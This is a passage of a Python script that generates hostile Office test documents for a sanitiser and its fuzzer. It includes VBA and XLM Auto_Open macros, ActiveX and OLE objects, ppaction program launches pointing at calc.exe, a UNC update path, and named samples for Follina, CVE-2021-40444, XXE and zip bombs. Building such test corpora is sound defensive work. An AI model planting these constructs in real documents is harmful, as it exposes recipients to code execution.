    p.rel("xl/worksheets/sheet1.xml", T + "oleObject", "../embeddings/oleObject1.bin", rid="rIdO")
    p.add("xl/activeX/activeX1.xml", '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
          'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>', CT["activex"])
    p.rel("xl/worksheets/sheet1.xml", T + "control", "../activeX/activeX1.xml", rid="rIdC")
    return p.build()


def sample_xlsx_hyperlinks():
    xml = sheet([[c_str("A1", "KEEP-HTTP"), c_str("A2", "DROP-FILE"), c_str("A3", "MUGAI-TEXT-XLINKS")]],
                extra_after='<hyperlinks><hyperlink ref="A1" r:id="rIdH1"/><hyperlink ref="A2" r:id="rIdH2"/>'
                            '<hyperlink ref="A3" location="Sheet1!A1"/></hyperlinks>')
    p = workbook([("Sheet1", "worksheet", "xl/worksheets/sheet1.xml", xml, None)])
    p.rel("xl/worksheets/sheet1.xml", T + "hyperlink", "https://www.example.jp/", True, "rIdH1")
    p.rel("xl/worksheets/sheet1.xml", T + "hyperlink", "file:///C:/Windows/System32/calc.exe", True, "rIdH2")
    return p.build()


def sample_printer_settings():
    xml = sheet([[c_str("A1", "MUGAI-TEXT-PRINT")]],
                extra_after='<pageSetup paperSize="9" orientation="landscape" r:id="rIdPS"/>')
    p = workbook([("Sheet1", "worksheet", "xl/worksheets/sheet1.xml", xml, None)])
    p.default("bin", OD + "spreadsheetml.printerSettings")
    p.add("xl/printerSettings/printerSettings1.bin", b"MUGAI-DEVMODE" + bytes(200))
    p.rel("xl/worksheets/sheet1.xml", T + "printerSettings", "../printerSettings/printerSettings1.bin", rid="rIdPS")
    return p.build()


def minimal_xlsx(text="MUGAI-TEXT-EMBEDDED", kind="xlsx", macro=False):
    sheets = [("Sheet1", "worksheet", "xl/worksheets/sheet1.xml", sheet([[c_str("A1", text), c_num("B1", 5)]]), None)]
    names = ""
    if macro:
        sheets.append(("Macro1", "xlMacrosheet", "xl/macrosheets/sheet1.xml", MACROSHEET, "hidden"))
        names = '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
    p = workbook(sheets, kind, names=names)
    if macro:
        add_vba(p, "xl/workbook.xml", "xl")
    return p.build()


def sample_embedded_workbook():
    """A chart whose workbook (an .xlsm with an XLM macro sheet) is embedded in the document."""
    chart = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             f'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
             f'xmlns:a="{NS_T["a"]}" xmlns:r="{NS_T["r"]}"><c:chart><c:plotArea><c:layout/><c:barChart>'
             '<c:barDir val="col"/><c:grouping val="clustered"/><c:ser><c:idx val="0"/><c:order val="0"/>'
             '<c:val><c:numRef><c:f>Sheet1!$B$1</c:f><c:numCache><c:ptCount val="1"/><c:pt idx="0"><c:v>5</c:v>'
             '</c:pt></c:numCache></c:numRef></c:val></c:ser><c:axId val="1"/><c:axId val="2"/></c:barChart>'
             '<c:catAx><c:axId val="1"/><c:scaling/><c:axPos val="b"/><c:crossAx val="2"/></c:catAx>'
             '<c:valAx><c:axId val="2"/><c:scaling/><c:axPos val="l"/><c:crossAx val="1"/></c:valAx>'
             '</c:plotArea></c:chart><c:externalData r:id="rIdWb"><c:autoUpdate val="0"/></c:externalData>'
             '</c:chartSpace>')
    body = ('<w:p><w:r><w:drawing><wp:inline><wp:extent cx="3000000" cy="2000000"/><wp:docPr id="1" name="Chart 1"/>'
            '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">'
            '<c:chart r:id="rIdChart"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>' +
            para("MUGAI-TEXT chart with workbook"))
    p = word(body)
    p.add("word/charts/chart1.xml", chart, CT["chart"])
    p.rel("word/document.xml", T + "chart", "charts/chart1.xml", rid="rIdChart")
    p.default("xlsm", CT["xlsm-embed"])
    p.add("word/embeddings/Microsoft_Excel_Worksheet.xlsm", minimal_xlsx("MUGAI-TEXT-INNER", "xlsm", macro=True))
    p.rel("word/charts/chart1.xml", T + "package", "../embeddings/Microsoft_Excel_Worksheet.xlsm", rid="rIdWb")
    return p.build()


# ---------------------------------------------------------------------------
# PresentationML

THEME = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         f'<a:theme xmlns:a="{NS_T["a"]}" name="T"><a:themeElements><a:clrScheme name="C">'
         + "".join(f'<a:{n}><a:srgbClr val="{v}"/></a:{n}>' for n, v in
                   [("dk1", "000000"), ("lt1", "FFFFFF"), ("dk2", "1F497D"), ("lt2", "EEECE1"), ("accent1", "4F81BD"),
                    ("accent2", "C0504D"), ("accent3", "9BBB59"), ("accent4", "8064A2"), ("accent5", "4BACC6"),
                    ("accent6", "F79646"), ("hlink", "0000FF"), ("folHlink", "800080")]) +
         '</a:clrScheme><a:fontScheme name="F"><a:majorFont><a:latin typeface="Arial"/><a:ea typeface=""/>'
         '<a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Arial"/><a:ea typeface=""/>'
         '<a:cs typeface=""/></a:minorFont></a:fontScheme><a:fmtScheme name="M"><a:fillStyleLst>'
         + '<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>' * 3 + '</a:fillStyleLst><a:lnStyleLst>'
         + '<a:ln><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln>' * 3 + '</a:lnStyleLst>'
         '<a:effectStyleLst>' + '<a:effectStyle><a:effectLst/></a:effectStyle>' * 3 + '</a:effectStyleLst>'
         '<a:bgFillStyleLst>' + '<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>' * 3 +
         '</a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>')


def p_part(root, body, ns=NS_T):
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<p:{root} xmlns:p="{ns["p"]}" xmlns:a="{ns["a"]}" xmlns:r="{ns["r"]}" '
            f'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">{body}</p:{root}>')


SP_TREE = ('<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr>'
           '<p:grpSpPr/>{shapes}</p:spTree></p:cSld>')


def text_shape(sid, text, runprops=""):
    return (f'<p:sp><p:nvSpPr><p:cNvPr id="{sid}" name="T{sid}"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr>'
            f'<p:spPr><a:xfrm><a:off x="457200" y="{sid * 600000}"/><a:ext cx="8000000" cy="500000"/></a:xfrm>'
            f'<a:prstGeom prst="rect"/></p:spPr><p:txBody><a:bodyPr/><a:p><a:r><a:rPr lang="en-US">{runprops}'
            f'</a:rPr><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>')


def presentation(shapes, kind="pptx"):
    p = Pkg()
    p.add("ppt/presentation.xml", p_part("presentation", '<p:sldMasterIdLst><p:sldMasterId id="2147483648" '
          'r:id="rIdM"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rIdS1"/></p:sldIdLst>'
          '<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/>'), CT[kind])
    p.rel("", T + "officeDocument", "ppt/presentation.xml")
    p.add("ppt/slideMasters/slideMaster1.xml", p_part("sldMaster", SP_TREE.format(shapes="") +
          '<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" '
          'accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/>'
          '<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rIdL"/></p:sldLayoutIdLst>'), CT["master"])
    p.add("ppt/slideLayouts/slideLayout1.xml", p_part("sldLayout", SP_TREE.format(shapes="") +
          '<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr>'), CT["layout"])
    p.add("ppt/theme/theme1.xml", THEME, CT["theme"])
    p.add("ppt/slides/slide1.xml", p_part("sld", SP_TREE.format(shapes=shapes) +
          '<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr>'), CT["slide"])
    p.rel("ppt/presentation.xml", T + "slideMaster", "slideMasters/slideMaster1.xml", rid="rIdM")
    p.rel("ppt/presentation.xml", T + "slide", "slides/slide1.xml", rid="rIdS1")
    p.rel("ppt/presentation.xml", T + "theme", "theme/theme1.xml")
    p.rel("ppt/slideMasters/slideMaster1.xml", T + "slideLayout", "../slideLayouts/slideLayout1.xml", rid="rIdL")
    p.rel("ppt/slideMasters/slideMaster1.xml", T + "theme", "../theme/theme1.xml")
    p.rel("ppt/slideLayouts/slideLayout1.xml", T + "slideMaster", "../slideMasters/slideMaster1.xml")
    p.rel("ppt/slides/slide1.xml", T + "slideLayout", "../slideLayouts/slideLayout1.xml")
    return p


def sample_ppt_actions():
    shapes = (text_shape(2, "DROP-PROGRAM", '<a:hlinkClick r:id="rIdProg" action="ppaction://program"/>') +
              text_shape(3, "DROP-MACRO", '<a:hlinkClick r:id="" action="ppaction://macro?name=MUGAI_MACRO"/>') +
              text_shape(4, "DROP-HLINKFILE", '<a:hlinkClick r:id="rIdFile" action="ppaction://hlinkfile"/>') +
              text_shape(5, "DROP-OLEVERB", '<a:hlinkHover r:id="" action="ppaction://ole?verb=0"/>') +
              text_shape(6, "KEEP-JUMP", '<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>') +
              text_shape(7, "KEEP-WEB", '<a:hlinkClick r:id="rIdWeb"/>') +
              text_shape(8, "MUGAI-TEXT-PPT"))
    p = presentation(shapes, "pptm")
    add_vba(p, "ppt/presentation.xml", "ppt")
    p.rel("ppt/slides/slide1.xml", T + "hyperlink", "file:///C:/Windows/System32/calc.exe", True, "rIdProg")
    p.rel("ppt/slides/slide1.xml", T + "hyperlink", "file:///C:/mugai/hlinkfile.ppt", True, "rIdFile")
    p.rel("ppt/slides/slide1.xml", T + "hyperlink", "https://www.example.jp/", True, "rIdWeb")
    p.rel("ppt/slides/slide1.xml", T + "slideUpdateInfo", "\\\\mugai.invalid\\slides\\update.ppt", True)
    return p.build()


def sample_ppt_ole():
    ole = ('<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="Object 9"/><p:cNvGraphicFramePr/><p:nvPr/>'
           '</p:nvGraphicFramePr><p:xfrm><a:off x="100000" y="200000"/><a:ext cx="3000000" cy="2000000"/></p:xfrm>'
           '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
           '<mc:AlternateContent><mc:Choice xmlns:v="urn:schemas-microsoft-com:vml" Requires="v">'
           '<p:oleObj spid="_x0000_s1026" name="Equation" r:id="rIdOle" imgW="100" imgH="50" progId="Equation.3">'
           '<p:embed/></p:oleObj></mc:Choice><mc:Fallback><p:oleObj name="Equation" r:id="rIdOle" imgW="100" '
           'imgH="50" progId="Equation.3"><p:embed/><p:pic><p:nvPicPr><p:cNvPr id="0" name=""/><p:cNvPicPr/><p:nvPr/>'
           '</p:nvPicPr><p:blipFill><a:blip r:embed="rIdPrev"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
           '<p:spPr><a:xfrm><a:off x="100000" y="200000"/><a:ext cx="3000000" cy="2000000"/></a:xfrm>'
           '<a:prstGeom prst="rect"/></p:spPr></p:pic></p:oleObj></mc:Fallback></mc:AlternateContent>'
           '</a:graphicData></a:graphic></p:graphicFrame>')
    p = presentation(ole + text_shape(2, "MUGAI-TEXT-PPTOLE"))
    p.default("png", "image/png")
    p.default("bin", CT["ole"])
    p.add("ppt/media/image1.png", png(seed=9))
    p.add("ppt/embeddings/oleObject1.bin", OLE_EQUATION)
    p.rel("ppt/slides/slide1.xml", T + "image", "../media/image1.png", rid="rIdPrev")
    p.rel("ppt/slides/slide1.xml", T + "oleObject", "../embeddings/oleObject1.bin", rid="rIdOle")
    return p.build()


def sample_macro_variant(kind):
    """A VBA project in each macro-enabled type: output must be the macro-free type."""
    if kind in ("docm", "dotm"):
        p = word(para(f"MUGAI-TEXT-{kind.upper()}"), kind)
        add_vba(p)
    elif kind in ("xlsm", "xltm"):
        p = workbook([("Sheet1", "worksheet", "xl/worksheets/sheet1.xml",
                       sheet([[c_str("A1", f"MUGAI-TEXT-{kind.upper()}")]]), None)], kind)
        add_vba(p, "xl/workbook.xml", "xl")
    else:
        p = presentation(text_shape(2, f"MUGAI-TEXT-{kind.upper()}"), kind)
        add_vba(p, "ppt/presentation.xml", "ppt")
    return p.build()


HOSTILE = {
    "vba.docm": sample_vba_docm,
    "vba-renamed.docm": sample_vba_renamed,
    "remote-template.docx": sample_remote_template,
    "ole-mhtml-cve-2021-40444.docx": sample_ole_mhtml,
    "ole-msdt-follina.docx": sample_follina,
    "frame-subdoc.docx": sample_frame_subdoc,
    "linked-image.docx": sample_linked_image,
    "ole-equation.docx": sample_ole_embedded,
    "activex.docx": sample_activex,
    "customui.docm": sample_customui,
    "dde-fields.docx": sample_dde_fields,
    "include-fields.docx": sample_include_fields,
    "hyperlinks.docx": sample_hyperlinks,
    "images-emf-exif.docx": sample_emf_image,
    "image-via-hyperlink.docx": sample_image_via_hyperlink,
    "printer-settings.xlsx": sample_printer_settings,
    "billion-laughs.docx": sample_billion_laughs,
    "xxe-content-types.docx": sample_xxe_content_types,
    "xxe-utf16.docx": sample_xxe_utf16,
    "utf16-part.docx": sample_utf16_ok,
    "strict-external.docx": sample_strict_docx,
    "dup-names.docx": sample_dup_names,
    "bomb.docx": sample_bomb,
    "no-main.docx": sample_no_main,
    "encrypted-member.docx": sample_encrypted_member,
    "xlm-macrosheet.xlsm": sample_xlm_macrosheet,
    "xlm-macrosheet-strict.xlsx": lambda: sample_xlm_macrosheet("xlsx", True),
    "dde-formula.xlsx": sample_dde_formula,
    "external-link.xlsx": sample_external_link,
    "connections-powerquery.xlsx": sample_connections,
    "button-ole-activex.xlsx": sample_xlsx_button_macro,
    "xlsx-hyperlinks.xlsx": sample_xlsx_hyperlinks,
    "embedded-workbook.docx": sample_embedded_workbook,
    "ppt-actions.pptm": sample_ppt_actions,
    "ppt-ole.pptx": sample_ppt_ole,
}
for _k in ("dotm", "xlsm", "xltm", "pptm", "ppsm", "potm"):
    HOSTILE[f"macro.{_k}"] = (lambda k: lambda: sample_macro_variant(k))(_k)

def member_list(data):
    """The fuzz harness's second input form: records "\\xFF\\xFE\\xFDname\\n" + data."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return b"".join(b"\xFF\xFE\xFD" + i.filename.encode() + b"\n" + z.read(i.filename) for i in z.infolist())


# Small inputs for the fuzzer (each well under 20 KB).
SEED_NAMES = ["vba.docm", "vba-renamed.docm", "remote-template.docx", "ole-mhtml-cve-2021-40444.docx",
              "frame-subdoc.docx", "linked-image.docx", "activex.docx", "dde-fields.docx", "include-fields.docx",
              "hyperlinks.docx", "billion-laughs.docx", "xxe-utf16.docx", "utf16-part.docx", "strict-external.docx",
              "xlm-macrosheet.xlsm", "dde-formula.xlsx", "external-link.xlsx", "connections-powerquery.xlsx",
              "button-ole-activex.xlsx", "ppt-actions.pptm", "ppt-ole.pptx", "macro.potm"]


def other_producers(outdir):
    """Documents from other producers in Debian: python-docx (its template is
    Microsoft Word output: styles with effects, theme, customXml, thumbnail)
    and openpyxl (formulas, a chart, a comment with its VML shape, a link).
    Needs python3-docx and python3-openpyxl (run with /usr/bin/python3)."""
    try:
        import docx
        import openpyxl
        from docx.shared import Cm
        from openpyxl.chart import BarChart, Reference
        from openpyxl.comments import Comment
    except ImportError:
        sys.exit("--benign needs python3-docx and python3-openpyxl (Debian); run with /usr/bin/python3")
    d = docx.Document()
    d.core_properties.title = "議事録 Minutes"
    d.sections[0].header.paragraphs[0].text = "第3回 委員会 議事録 Committee minutes"
    d.sections[0].footer.paragraphs[0].text = "企画課 Planning Division"
    d.add_heading("第3回 まちづくり委員会 議事録", level=1)
    d.add_paragraph("日時：令和6年6月12日 午後2時 Date: 12 June 2024, 2 pm")
    d.add_paragraph("出席者：委員8名、事務局3名 Attendance: eight members, three staff")
    d.add_heading("議題 Agenda", level=2)
    for item in ("駅前広場の整備 Station square", "公園の改修 Park renovation", "その他 Other business"):
        d.add_paragraph(item, style="List Number")
    for item in ("意見は事務局へ Opinions to the secretariat", "次回は九月 Next meeting in September"):
        d.add_paragraph(item, style="List Bullet")
    tbl = d.add_table(rows=1, cols=3)
    tbl.style = "Table Grid"
    for cell, text in zip(tbl.rows[0].cells, ("議題 Item", "担当 Owner", "期限 Due")):
        cell.text = text
    for row in (("駅前広場 Station square", "都市計画課 Urban Planning", "7月 July"),
                ("公園 Park", "公園緑地課 Parks", "8月 August")):
        cells = tbl.add_row().cells
        for cell, text in zip(cells, row):
            cell.text = text
    pic = os.path.join(outdir, "pic.png")
    with open(pic, "wb") as f:
        f.write(lo_png(seed=11))
    d.add_paragraph("完成予想図 Artist's impression:")
    d.add_picture(pic, width=Cm(5))
    os.unlink(pic)
    d.add_paragraph("以上 End of minutes")
    d.save(os.path.join(outdir, "benign-minutes-pydocx.docx"))
    print("benign benign-minutes-pydocx.docx")

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "人口 Population"
    ws.append(["地区 Area", "2022年", "2023年", "増減 Change"])
    data = [("北地区 North", 12100, 12400), ("南地区 South", 9900, 9800), ("東地区 East", 7300, 7450),
            ("西地区 West", 8800, 8650)]
    for i, (area, a, b) in enumerate(data, start=2):
        ws.append([area, a, b, f"=C{i}-B{i}"])
    n = len(data) + 1
    ws.append(["合計 Total", f"=SUM(B2:B{n})", f"=SUM(C2:C{n})", f"=C{n + 1}-B{n + 1}"])
    ws["A1"].comment = Comment("人口は住民基本台帳による。Source: resident register.", "企画課")
    ws["A8"] = "出典 Source"
    ws["A8"].hyperlink = "https://www.city.example.jp/toukei/"
    chart = BarChart()
    chart.title = "地区別人口 Population by area"
    chart.add_data(Reference(ws, min_col=2, min_row=1, max_col=3, max_row=n), titles_from_data=True)
    chart.set_categories(Reference(ws, min_col=1, min_row=2, max_row=n))
    ws.add_chart(chart, "F2")
    ws2 = wb.create_sheet("メモ Notes")
    ws2["A1"] = "この資料は企画課が作成しました。Prepared by the Planning Division."
    wb.save(os.path.join(outdir, "benign-population-openpyxl.xlsx"))
    print("benign benign-population-openpyxl.xlsx")


# Seeds also written as member lists: the harness zips them, so mutations never break the zip.
LIST_SEEDS = ["dde-fields.docx", "include-fields.docx", "dde-formula.xlsx", "xlm-macrosheet.xlsm", "ppt-ole.pptx",
              "ppt-actions.pptm", "ole-mhtml-cve-2021-40444.docx", "hyperlinks.docx", "button-ole-activex.xlsx",
              "strict-external.docx"]


def convert_benign(outdir):
    soffice = shutil.which("soffice")
    if soffice is None:
        sys.exit("--benign needs LibreOffice (soffice)")
    with tempfile.TemporaryDirectory() as td:
        profile = "file://" + os.path.join(td, "profile")
        for name, (ext, make, flt, oext) in SOURCES.items():
            src = os.path.join(td, f"{name}.{ext}")
            with open(src, "w", encoding="utf-8") as f:
                f.write(make())
            subprocess.run([soffice, f"-env:UserInstallation={profile}", "--headless", "--convert-to", flt,
                            "--outdir", td, src], check=True, capture_output=True, timeout=300)
            shutil.copy(os.path.join(td, f"{name}.{oext}"), os.path.join(outdir, f"{name}.{oext}"))
            print(f"benign {name}.{oext}")


def main():
    os.makedirs(OUT, exist_ok=True)
    os.makedirs(SEEDS, exist_ok=True)
    if "--benign" in sys.argv[1:]:
        convert_benign(OUT)
        other_producers(OUT)
    for name, make in HOSTILE.items():
        data = make()
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
        if name in SEED_NAMES:
            seed = stored(data)
            if len(seed) >= 20000:
                seed = data
            assert len(seed) < 20000, name
            with open(os.path.join(SEEDS, name), "wb") as f:
                f.write(seed)
            if name in LIST_SEEDS:
                with open(os.path.join(SEEDS, name + ".members"), "wb") as f:
                    f.write(member_list(data))
    print(f"{len(HOSTILE)} hostile samples in {OUT}, {len(SEED_NAMES)} seeds in {SEEDS}")


if __name__ == "__main__":
    main()
